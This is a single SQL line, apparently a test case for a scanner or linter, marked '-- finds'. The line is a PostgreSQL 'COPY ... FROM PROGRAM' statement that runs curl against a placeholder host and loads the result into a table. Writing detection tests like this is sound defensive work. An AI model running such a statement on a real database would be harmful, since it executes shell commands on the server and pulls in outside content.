copy app.upload_specs from program 'curl http://example.org'; -- finds
